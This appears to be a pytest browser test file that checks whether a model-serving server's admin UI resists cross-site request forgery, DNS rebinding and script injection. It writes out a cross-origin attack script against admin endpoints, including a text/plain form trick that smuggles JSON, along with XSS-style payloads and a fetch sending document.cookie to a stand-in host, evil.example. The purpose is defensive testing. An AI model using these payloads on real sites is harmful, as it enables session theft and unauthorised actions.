"""Pages of others, in a browser whose person is signed in at this server: another site, another port, another name."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.browser.browsing import BrowserContext, open_browser
from tests.e2e.harness import TOKEN, Server, linear, serving, until, write_version

READS = "reads-and-nothing-else"
EVIL, REBOUND = "evil.example", "rebound.example"

# Tries everything by which a page can have a browser ask another server, and returns what it could read.
ATTACK = """
async (target) => {
  const read = [];
  const asks = [
    ["POST", "/refresh", undefined, {}],
    ["POST", "/refresh", "{}", { "Content-Type": "text/plain" }],
    ["POST", "/models/m/pin", '{"version": "1"}', { "Content-Type": "application/json" }],
    ["POST", "/models/m/pin", '{"version": "1"}', { "Content-Type": "text/plain" }],
    ["DELETE", "/models/m/pin", undefined, {}],
    ["POST", "/models/m/rollback", undefined, {}],
    ["POST", "/models/m/rollback", "", { "Content-Type": "application/x-www-form-urlencoded" }],
    ["POST", "/v2/repository/models/m/unload", "{}", { "Content-Type": "text/plain" }],
    ["PUT", "/models/m/labels/evil", '{"version": "1"}', {}],
    ["POST", "/models/m/predict", '{"input": [1, 2]}', { "Content-Type": "text/plain" }],
    ["POST", "/ui/session", '{"token": "guess"}', { "Content-Type": "text/plain" }],
    ["DELETE", "/ui/session", undefined, {}],
    ["GET", "/models", undefined, {}],
    ["GET", "/ui/session", undefined, {}],
    ["GET", "/ui/main.js", undefined, {}],
    ["GET", "/history", undefined, {}],
    ["GET", "/metrics", undefined, {}],
  ];
  for (const mode of ["cors", "no-cors"]) {
    for (const [method, path, body, headers] of asks) {
      try {
        const answer = await fetch(target + path, { method, body, headers, mode, credentials: "include" });
        const text = await answer.text();
        if (text) read.push(`${mode} ${method} ${path}: ${text}`);
      } catch { /* refused by the browser */ }
    }
  }
  const loaded = (tag, attributes) => new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.onload = () => resolve(element);
    element.onerror = () => resolve(null);
    document.body.append(element);
  });
  if (await loaded("img", { src: `${target}/ui/favicon.svg` })) read.push("an image");
  if (await loaded("script", { src: `${target}/models` })) read.push("a script");
  if (await loaded("link", { rel: "stylesheet", href: `${target}/ui/styles/base.css` })) read.push("a style");
  for (const path of ["/ui/", "/ui/session", "/docs"]) {
    const frame = await loaded("iframe", { src: target + path });
    try {
      if (frame?.contentDocument?.body.innerHTML) read.push("a frame");
    } catch { /* of another origin: an error page */ }
  }
  for (const path of ["/refresh", "/models/m/pin", "/models/m/predict", "/ui/session"]) {
    const inner = await loaded("iframe", { name: `frame${path}` });
    const form = Object.assign(document.createElement("form"),
      { method: "post", action: target + path, target: inner.name, enctype: "text/plain" });
    form.append(Object.assign(document.createElement("input"), { name: '{"version": "1", "x', value: '": 1}' }));
    document.body.append(form);
    const sent = new Promise((resolve) => inner.addEventListener("load", resolve, { once: true }));
    form.submit();
    await sent;
  }
  const outcome = await new Promise((resolve) => {
    const source = new EventSource(`${target}/events`, { withCredentials: true });
    source.onopen = source.onmessage = () => resolve("open");
    source.onerror = () => resolve("refused");
  });
  if (outcome === "open") read.push("a stream");
  const opened = window.open(`${target}/ui/`);
  const end = Date.now() + 20000;
  while (opened && !opened.closed && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 10));
  if (opened && !opened.closed) read.push("a window within its reach");
  return read;
}
"""


class OtherServer:
    """Another server on this machine. It keeps the paths that it is asked for."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        seen = self.seen

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Set-Cookie", "serving_session=theirs; Path=/")
                self.end_headers()
                self.wfile.write(b"<!doctype html><title>theirs</title><body>")

            def log_message(self, *_: Any) -> None:
                """Be quiet."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture(scope="module")
def other() -> Iterator[OtherServer]:
    found = OtherServer()
    yield found
    found.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server that needs tokens for everything."""
    directory = tmp_path_factory.mktemp("hostile_pages")
    write_version(directory / "store" / "m", 1, linear())
    tokens = {"SERVING_SECURITY__READ_TOKEN": READS, "SERVING_SECURITY__PREDICT_TOKEN": "predicts"}
    with serving(directory, wait_ready=True, **tokens) as running:
        yield running


@pytest.fixture(scope="module")
def context(server: Server) -> Iterator[BrowserContext]:
    """A browser that takes two names of other sites for this machine, and whose person is signed in as an operator."""
    rules = f"MAP {EVIL} 127.0.0.1, MAP {REBOUND} 127.0.0.1"
    with open_browser(f"--host-resolver-rules={rules}", "--disable-popup-blocking") as browser:
        context = browser.new_context()
        page = context.new_page()
        page.goto(address(server, "localhost") + "/ui/")
        signed_in = page.evaluate(
            """(token) => fetch("session", {method: "POST", body: JSON.stringify({token}),
                headers: {"Content-Type": "application/json"}}).then((answer) => answer.json())""",
            TOKEN,
        )
        assert "admin" in signed_in["scopes"]
        yield context
        context.close()


def address(server: Server, host: str) -> str:
    return f"http://{host}:{urlsplit(server.url).port}"


def list_deeds(server: Server) -> list[dict[str, Any]]:
    return [one for one in server.log() if one.get("event") == "admin" and one["outcome"] == "done"]


def is_signed_in(server: Server, context: BrowserContext) -> bool:
    page = context.new_page()
    page.goto(address(server, "localhost") + "/ui/")
    found = page.evaluate("fetch('session').then((answer) => answer.json())")
    page.close()
    return bool(found["signed_in"])


@pytest.mark.parametrize("host", [EVIL, "localhost", "127.0.0.1"])
def test_a_page_of_another_site_or_port_reads_nothing_and_changes_nothing(
    server: Server, context: BrowserContext, other: OtherServer, host: str
) -> None:
    before = list_deeds(server)
    page = context.new_page()
    page.goto(f"http://{host}:{other.port}/")
    asked = len(server.log())
    target = address(server, "localhost")
    assert page.evaluate(ATTACK, target) == []
    framed = [frame.url for frame in page.frames if frame.url.startswith((f"{target}/ui/", f"{target}/docs"))]
    assert framed == []
    page.close()
    assert list_deeds(server) == before
    assert len(server.log()) > asked  # some of it has come here, and was refused
    assert is_signed_in(server, context)


def test_the_page_itself_may(server: Server, context: BrowserContext) -> None:
    """What is refused to others is refused because they are others."""
    before = len(list_deeds(server))
    page = context.new_page()
    page.goto(address(server, "localhost") + "/ui/")
    status = page.evaluate("fetch('../refresh', {method: 'POST'}).then((answer) => answer.status)")
    page.close()
    assert status == 200
    (deed,) = until(lambda: list_deeds(server)[before:], "a line in the log")
    assert deed["actor"] == "admin@127.0.0.1 (page)"


def test_a_name_that_is_led_here_gets_neither_the_page_nor_the_session(server: Server, context: BrowserContext) -> None:
    page = context.new_page()
    for path in ("/ui/", "/ui/session", "/models", "/events"):
        answer = page.goto(address(server, REBOUND) + path)
        assert answer is not None
        assert answer.status == 421
    page.close()
    assert all("serving_session" not in str(one) for one in context.cookies(address(server, REBOUND)))


def test_a_script_in_a_page_of_this_server_cannot_be_smuggled_in(
    server: Server, context: BrowserContext, other: OtherServer
) -> None:
    """As if markup had got into the page in spite of everything: its policy keeps it from running, and from loading."""
    page = context.new_page()
    page.goto(address(server, "localhost") + "/ui/")
    outcome = page.evaluate(
        """async (elsewhere) => {
          await new Promise((resolve) => setTimeout(resolve)); // what the debugger itself begins may do more
          const tried = [];
          const attempt = (name, act) => { try { act(); tried.push(name); } catch { /* not allowed */ } };
          attempt("innerHTML", () => { document.body.innerHTML = "<img src=x onerror='window.smuggled = 1'>"; });
          attempt("eval", () => { (0, eval)("window.smuggled = 2"); });
          attempt("Function", () => { new Function("window.smuggled = 3")(); });
          attempt("srcdoc", () => { document.createElement("iframe").srcdoc = "<script>1</script>"; });
          const inline = document.createElement("img");
          attempt("attribute", () => inline.setAttribute("onerror", "window.smuggled = 4"));
          inline.setAttribute("src", `${elsewhere}/image`);
          document.body.append(inline);
          const sent = fetch(`${elsewhere}/fetch?${document.cookie}`, { mode: "no-cors" });
          await sent.then(() => tried.push("fetch"), () => null);
          return { tried, smuggled: window.smuggled ?? null, cookie: document.cookie };
        }""",
        f"http://{EVIL}:{other.port}",
    )
    page.close()
    assert outcome["tried"] == []
    assert outcome["smuggled"] is None
    assert "serving_session_" not in outcome["cookie"]
    assert not [path for path in other.seen if path.startswith(("/image", "/fetch"))]


def test_the_token_is_in_nothing_that_the_browser_keeps(
    server: Server, context: BrowserContext, tmp_path: Path
) -> None:
    state = tmp_path / "state.json"
    context.storage_state(path=state)
    assert TOKEN not in state.read_text()
    assert "serving_session_" in state.read_text()
